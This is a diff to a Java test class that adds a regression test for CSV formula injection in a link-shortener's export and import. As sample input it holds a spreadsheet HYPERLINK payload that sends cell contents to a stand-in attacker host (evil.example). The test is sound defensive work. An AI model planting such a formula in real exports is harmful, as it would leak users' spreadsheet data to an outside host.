@@ -145,6 +145,45 @@ class PortingTest {
     }
 
     @Test
+    void csvCellsThatASpreadsheetWouldRunAsFormulasAreGuardedAndReadBackAsTheyWere() throws Exception {
+        // A title, slug or author starting with = + - @ went into the CSV as it was: opened in a
+        // spreadsheet, =HYPERLINK(...) ran as a formula (OWASP's CSV injection).
+        Path source = dir.resolve("source.data");
+        Map<String, String> titles = Map.of("-sale", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "plus", "+1 for this",
+                "at", "@here: read me", "quoted", "'=already quoted", "tis", "'tis the season", "plain", "Plain - title");
+        try (LogLinkStore store = LogLinkStore.open(source, LogLinkStore.Options.defaults())) {
+            for (Map.Entry<String, String> link : new java.util.TreeMap<>(titles).entrySet()) {
+                store.create(gotourl.link.LinkDraft.of("https://example.com/" + link.getKey()).withCustomSlug(link.getKey())
+                        .withTitle(link.getValue()).withTags(List.of("=tag")).withAuthor("@ops")).join();
+            }
+        }
+        Path first = dir.resolve("first.csv");
+        CliRun exported = run("export", "-file=" + source, "-format=csv", "-o", first.toString());
+        assertThat(exported.exitCode()).as(exported.err()).isZero();
+        List<String> cells = new java.util.ArrayList<>();
+        try (var parser = org.apache.commons.csv.CSVFormat.RFC4180.parse(Files.newBufferedReader(first))) {
+            parser.forEach(record -> cells.addAll(record.toList()));
+        }
+        assertThat(cells).as("no cell starts as a formula").noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
+        assertThat(cells).contains("'-sale", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "'+1 for this",
+                "'@here: read me", "''=already quoted", "'tis the season", "Plain - title", "'@ops");
+
+        Path copy = dir.resolve("copy.data");
+        CliRun imported = run("import", "-file=" + copy, first.toString());
+        assertThat(imported.out()).as(imported.err()).contains("6 added, 0 unchanged, 0 conflicts, 0 invalid");
+        try (LogLinkStore store = LogLinkStore.open(copy, LogLinkStore.Options.defaults())) {
+            for (Map.Entry<String, String> link : titles.entrySet()) {
+                Link back = store.lookup(link.getKey());
+                assertThat(back).as(link.getKey()).isNotNull();
+                assertThat(back.title()).as(link.getKey()).isEqualTo(link.getValue());
+                assertThat(back.author()).isEqualTo("@ops");
+                assertThat(back.tags()).containsExactly("=tag");
+            }
+        }
+        assertThat(run("export", "-file=" + copy, "-format=csv").out()).isEqualTo(Files.readString(first, StandardCharsets.UTF_8));
+    }
+
+    @Test
     void importingTwiceChangesNothing() throws Exception {
         Path source = richFile();
         Path export = dir.resolve("links.jsonl");
@@ -272,6 +311,7 @@ class PortingTest {
                 ".sock", "the control socket of the goto serving " + data,
                 ".health", "the file goto check keeps the link health of " + data + " in",
                 ".health.tmp", "the file goto check writes the link health of " + data + " into",
+                ".pg-node", "the note saying which PostgreSQL database keeps the API keys of the node whose -file is " + data,
                 ".corrupt-20261201T120000", "a backup goto made of " + data);
         owned.forEach((suffix, what) -> {
             Path output = Path.of(data + suffix);
